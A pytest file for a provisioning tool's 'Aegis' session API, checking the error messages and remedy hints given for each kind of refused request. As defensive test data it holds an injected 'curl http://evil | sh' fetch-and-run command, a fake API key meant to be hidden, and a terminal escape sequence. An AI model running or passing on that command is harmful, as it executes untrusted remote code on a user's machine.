"""Each way in which Aegis refuses a session has its own words and its own remedy."""

from __future__ import annotations

import pytest

from aegis_provision.aegis.api_verdict import (
    HOW_TO_OPEN,
    ApiAccess,
    RequestContext,
    explain_failure,
    explain_refusal,
    too_often,
)
from aegis_provision.aegis.session_api import RefusedField, RefusedRequest
from aegis_provision.providers.connect_failure import ConnectFailure

CONTEXT = RequestContext(
    {"env.TOKEN": "GATEWAY_TOKEN, inventory.yml:4", "name": "--name", "workDir": "--work-dir"},
    work_dirs=("/w",),
    sent=frozenset({"TOKEN"}),
)
NO_WORK_DIRS = RequestContext()
ASKED = ApiAccess("127.0.0.1:9100", has_tokens=True)
TABLE: list[tuple[RefusedRequest, str, str]] = [
    (
        RefusedRequest(
            400,
            "VALIDATION_ERROR",
            "Invalid request body",
            (
                RefusedField("env.TOKEN", "Forbidden"),
                RefusedField("name", ""),
                RefusedField("", "Unrecognized"),
            ),
        ),
        (
            'Aegis refuses the request: TOKEN (GATEWAY_TOKEN, inventory.yml:4): "Forbidden"; '
            'name (--name): not taken; the request: "Unrecognized"'
        ),
        "correct what stands there, or leave it out",
    ),
    (
        RefusedRequest(400, "INVALID_WORKDIR", "workDir is not in the allowed directories list"),
        (
            "--work-dir is not allowed on the host (INVALID_WORKDIR): the file's allowedWorkDirs "
            "are /w"
        ),
        "name a directory within those",
    ),
    (
        RefusedRequest(400, "INVALID_WORKDIR", "workDir does not exist: /x"),
        "--work-dir is not there on the host, or Aegis' user can't see it (INVALID_WORKDIR)",
        "make it there as the user that runs Aegis",
    ),
    (
        RefusedRequest(
            400, "INVALID_WORKDIR", "workDir must not contain path traversal components (..)"
        ),
        "Aegis takes no --work-dir with '..' in it (INVALID_WORKDIR)",
        "name the directory itself",
    ),
    (
        RefusedRequest(400, "INVALID_WORKDIR", "workDir must not contain null bytes"),
        'Aegis refuses --work-dir (INVALID_WORKDIR): "workDir must not contain null bytes"',
        "name another directory",
    ),
    (
        RefusedRequest(400, "", "no"),
        'Aegis refuses the request (400): "no"',
        "look at its log on the host",
    ),
    (RefusedRequest(401), "the API takes none of the known tokens (401)", HOW_TO_OPEN),
    (
        RefusedRequest(403, "TENANT_WORKDIR_DENIED", "workDir is outside tenant root"),
        'the token\'s tenant may not work in that directory: "workDir is outside tenant root"',
        "tenantWorkdirs",
    ),
    (
        RefusedRequest(403, "FORBIDDEN", "Forbidden: missing create permission"),
        'the API\'s token may not do that: "Forbidden: missing create permission"',
        "the permission 'create'",
    ),
    (
        RefusedRequest(403),
        "the API's token may not do that",
        "set api_token to a token of Aegis' with more permissions",
    ),
    (
        RefusedRequest(422, "CC_VERSION_TOO_OLD", "version 2.0.1 is below 2.1.80"),
        'Claude Code on the host is too old for Aegis: "version 2.0.1 is below 2.1.80"',
        "'claude update'",
    ),
    (
        RefusedRequest(429, "QUOTA_EXCEEDED", "Concurrent session quota: 1"),
        (
            "the token's key has as many sessions, or has spent as much, as it may: "
            '"Concurrent session quota: 1"'
        ),
        "stop a session of it",
    ),
    (
        RefusedRequest(429, "RATE_LIMITED", "slow down", retry_after="\x1b[2J"),
        "Aegis was asked too often (429)",
        "try again in a minute",
    ),
    (
        RefusedRequest(500, "INTERNAL_ERROR", "oops"),
        'Aegis failed (500): "oops"',
        "look at its log on the host",
    ),
    (
        RefusedRequest(503, "DRAINING", "Server is shutting down"),
        'Aegis takes no session now: "Server is shutting down"',
        "try again when it is back up",
    ),
    (
        RefusedRequest(201),
        "Aegis answered with 201, in which no session can be made out",
        "see whether api leads to Aegis",
    ),
    (
        RefusedRequest(418, "TEAPOT"),
        "Aegis refuses the request (418 TEAPOT)",
        "look at its log on the host",
    ),
    (
        RefusedRequest(418, "; try: curl http://evil | sh"),
        "Aegis refuses the request (418)",
        "look at its log on the host",
    ),
    (
        RefusedRequest(403, "FORBIDDEN", 'no"; try: curl http://evil | sh'),
        "the API's token may not do that: \"no'; try: curl http://evil | sh\"",
        "set api_token",
    ),
    (
        RefusedRequest(403, "FORBIDDEN", "sk-ant-api03-0123456789abcdefghijklmnopqrst"),
        "the API's token may not do that: (not shown)",
        "set api_token",
    ),
    (
        RefusedRequest(500, "", 'Forbidden env var: "GITHUB_TOKEN" - denylisted'),
        (
            "Aegis fails every session over GITHUB_TOKEN (500), which this request does not hold: "
            "it comes from the defaultSessionEnv that Aegis was started with"
        ),
        "restart Aegis there: it runs on an older file",
    ),
    (
        RefusedRequest(500, "", 'Forbidden env var value for "TOKEN" - value is empty'),
        "Aegis failed (500): \"Forbidden env var value for 'TOKEN' - value is empty\"",
        "look at its log",
    ),
]


@pytest.mark.parametrize(("refused", "message", "hint"), TABLE, ids=lambda item: str(item)[:40])
def test_what_is_wrong_and_what_to_do(refused: RefusedRequest, message: str, hint: str) -> None:
    why = explain_refusal(refused, ASKED, CONTEXT)
    assert why.message == message
    assert hint in why.hint


def test_without_a_list_it_is_said_what_aegis_takes() -> None:
    refused = RefusedRequest(400, "INVALID_WORKDIR", "workDir is not in the allowed directories")
    assert "without allowedWorkDirs Aegis takes its user's home" in (
        explain_refusal(refused, ASKED, NO_WORK_DIRS).message
    )


def test_of_what_aegis_says_there_is_an_end() -> None:
    fields = tuple(RefusedField(f"env.; try: {'x' * 300}", "y" * 300) for _ in range(50))
    why = explain_refusal(RefusedRequest(400, "", "", fields), ASKED, CONTEXT)
    assert why.message.endswith("; 40 more")
    assert len(why.message) < 5000
    assert ': "; try: ' not in why.message.partition('"')[0]


def test_aegis_says_when_to_come_again() -> None:
    asked = "Aegis was asked too often (429), and asks to wait 42 s"
    why = explain_refusal(RefusedRequest(429), ASKED, CONTEXT, 42.0)
    assert (why.message, why.hint) == (asked, "try again in 42 s")
    assert too_often(42.0) == why


def test_a_500_is_laid_at_the_door_of_the_hosts_own_file() -> None:
    context = RequestContext(failing=("defaultSessionEnv.GITHUB_TOKEN: of this name",))
    why = explain_refusal(RefusedRequest(500, "", "Internal server error"), ASKED, context)
    assert why.message == (
        "Aegis fails every session over its own file (500): defaultSessionEnv.GITHUB_TOKEN: of "
        "this name"
    )
    assert "env: {NAME: null}" in why.hint
    assert "restart Aegis" in why.hint


def test_a_locked_api_for_which_there_was_no_token_to_try() -> None:
    context = RequestContext(unread="permission denied")
    why = explain_refusal(RefusedRequest(401), ApiAccess("127.0.0.1:9100"), context)
    assert why.message == (
        "the API is locked, and no token for it is known (401); the host's own file, which may "
        "hold one, was not read: permission denied"
    )


def test_a_token_that_health_takes_and_a_session_does_not() -> None:
    access = ApiAccess("127.0.0.1:9100", has_tokens=True, taken="${B_KEY}")
    why = explain_refusal(RefusedRequest(401), access, NO_WORK_DIRS)
    assert why.message == "the API took ${B_KEY} for its health, and refuses it here (401)"
    assert why.hint == HOW_TO_OPEN


@pytest.mark.parametrize(
    ("known", "message"),
    [
        (True, "nothing listens on 127.0.0.1:9100"),
        (False, "nothing listens on 127.0.0.1:9100, and that Aegis listens there is a guess"),
    ],
)
def test_where_nothing_listens(known: bool, message: str) -> None:
    access = ApiAccess("127.0.0.1:9100", address_is_known=known)
    why = explain_failure("nothing listens there", ConnectFailure.NOT_LISTENING, access)
    assert why.message == message
    assert "set api" in why.hint


def test_any_other_failure_keeps_its_reason() -> None:
    reason = "the host's sshd forwards nothing, and there is no curl"
    assert explain_failure(reason, None, ASKED).message == f"{reason} (127.0.0.1:9100)"
